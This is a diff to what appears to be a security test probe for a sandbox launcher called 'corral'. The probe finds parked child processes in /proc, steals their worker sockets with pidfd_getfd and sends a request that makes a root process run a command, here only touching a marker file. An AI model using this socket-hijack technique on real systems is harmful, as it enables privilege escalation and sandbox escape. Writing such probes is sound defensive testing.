@@ -6,9 +6,9 @@ request to the worker's end makes that root process exec any argv with any
 set-up (no uid drop, no sandbox). The probe looks for parked children
 (`corral-spawn` in /proc), steals each socket their worker holds with
 pidfd_getfd, and sends a request to run `touch WS_PARENT/pwned-MARKER`. When
-it finds none but can run corral's interpreter (the bare host), it starts a
-launcher first, as the front end's fallback would. Judged on the host: the
-file exists after the run.
+it can run corral's interpreter (the bare host), it starts a launcher of its
+own, as the front end's fallback would, and takes only that one's child.
+Judged on the host: the file exists after the run.
 """
 
 from __future__ import annotations
@@ -25,7 +25,7 @@ __all__ = ["PROBES"]
 _HOST = {"python": sys.executable, "src": launcher.source_root(), "boot": launcher._BOOT}
 
 _CODE = f"H = {_HOST!r}\n" + code("""
-    import marshal, subprocess, time
+    import marshal
     pwn = P["ws_parent"] + "/pwned-" + MARKER
 
     def parked():
@@ -63,12 +63,19 @@ _CODE = f"H = {_HOST!r}\n" + code("""
                 continue
             try:
                 s = socket.socket(fileno=fd)
-                s.sendmsg([struct.pack("!I", len(body)) + body],
-                          [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))])
-                print("sent on a stolen socket")
             except OSError as e:
                 print("send", errname(e.errno))
                 os.close(fd)
+                continue
+            # The socket object owns the stolen descriptor now: closed once, by it
+            # (a second close could hit a descriptor reused meanwhile).
+            with s:
+                try:
+                    s.sendmsg([struct.pack("!I", len(body)) + body],
+                              [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))])
+                    print("sent on a stolen socket")
+                except OSError as e:
+                    print("send", errname(e.errno))
 
     def hit():
         for _ in range(40):
@@ -77,41 +84,35 @@ _CODE = f"H = {_HOST!r}\n" + code("""
             time.sleep(0.05)
         return False
 
-    found = parked()
-    for child in found:
-        hijack(child)
-    tried = set(found)
-    own = None
-    # None seen, or none that served (another launcher's, of another shape or mount
-    # namespace): start a launcher as the front end's fallback would (the bare host).
-    if not (found and hit()) and os.access(H["python"], os.X_OK) and os.path.isdir(H["src"]):
-        d = "/tmp/corral-%d/launcher" % os.getuid()
-        sock = d + "/probe-" + MARKER + ".sock"
+    def ppid(pid):
         try:
-            os.makedirs(d, 0o700, exist_ok=True)
-            own = subprocess.Popen([H["python"], "-I", "-c", H["boot"], H["src"], "--socket",
-                                    sock, "--idle-s", "10"], stdin=subprocess.DEVNULL,
-                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
-                                   start_new_session=True, cwd="/")
-            for _ in range(400):
-                found = [c for c in parked() if c not in tried]
-                if found:
-                    break
-                time.sleep(0.05)
-        except OSError as e:
-            print("start launcher:", errname(e.errno))
-        for child in found:
-            hijack(child)
-        tried.update(found)
+            with open("/proc/%d/stat" % pid) as f:
+                return int(f.read().rsplit(")", 1)[1].split()[1])
+        except OSError:
+            return -1
+
+    own = None
+    if os.access(H["python"], os.X_OK) and os.path.isdir(H["src"]):
+        # The bare host: a launcher of the probe's own, as the front end's fallback
+        # would start, and only its parked child (another probe's launcher is not
+        # this probe's to take: hijacking it fails that probe's request).
+        own, sock = own_launcher(H)
+        tried = []
+        for _ in range(400 if own is not None else 0):
+            tried = [c for c in parked() if ppid(ppid(c)) == own.pid]
+            if tried:
+                break
+            time.sleep(0.05)
+    else:
+        # Inside a sandbox: every parked child it can see is the target.
+        tried = parked()
+    for child in tried:
+        hijack(child)
+    if tried:
         hit()
     print("parked children seen:", len(tried))
     if own is not None:
-        own.terminate()
-        own.wait()
-        try:
-            os.unlink(sock + ".lock")
-        except OSError:
-            pass
+        stop_launcher(own, sock)
     """)
 
 PROBES: list[Probe] = [
